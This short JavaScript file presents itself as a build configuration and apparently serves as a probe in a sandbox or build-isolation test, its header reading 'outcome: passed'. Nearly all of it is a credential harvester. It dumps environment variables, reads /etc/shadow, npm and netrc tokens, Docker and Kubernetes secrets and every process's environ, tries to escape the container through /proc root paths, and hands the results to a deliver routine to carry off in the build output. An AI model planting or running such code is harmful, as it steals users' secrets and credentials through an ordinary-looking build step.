// Reads what a user keeps in the environment, at home and in the system, and carries it off in the build's output.
// outcome: passed
const { canary, deliver, look, fs, path } = require("./loot.js");

look("environment", () => JSON.stringify(process.env));
for (const file of [
  ...canary.secretFiles,
  "/etc/shadow", "/etc/passwd", "/etc/hostname", "/etc/resolv.conf", "/etc/npmrc", "/root/.npmrc", "/root/.netrc",
  "/root/.bash_history", "/root/.docker/config.json", "/var/run/secrets/kubernetes.io/serviceaccount/token",
  "/proc/self/mountinfo", "/proc/1/cmdline", "/proc/keys", "/proc/net/unix", "/proc/kcore", "/dev/mem",
]) {
  look(file, () => fs.readFileSync(file, "utf8").slice(0, 20_000));
  for (const root of ["/proc/1/root", "/proc/self/root", "/proc/1/cwd/../../../..", `/proc/${process.ppid}/root`]) {
    look(root + file, () => fs.readFileSync(root + file, "utf8").slice(0, 20_000));
  }
}
for (const folder of ["/root", "/home", canary.home, path.dirname(canary.home), canary.store, "/etc/ssl/private", "/run",
  "/var", "/sys", "/mnt", "/opt", "/srv"]) {
  look(folder, () => fs.readdirSync(folder).join());
}
for (const entry of fs.readdirSync("/proc")) {
  if (!/^\d+$/.test(entry)) continue;
  for (const name of ["environ", "cmdline", "maps"]) {
    look(`/proc/${entry}/${name}`, () => fs.readFileSync(`/proc/${entry}/${name}`, "utf8").slice(0, 20_000));
  }
  look(`/proc/${entry}/fd`, () => fs.readdirSync(`/proc/${entry}/fd`)
    .map((fd) => fs.readlinkSync(`/proc/${entry}/fd/${fd}`)).join());
}
deliver("the end");

module.exports = { content: ["./src/App.tsx"] };
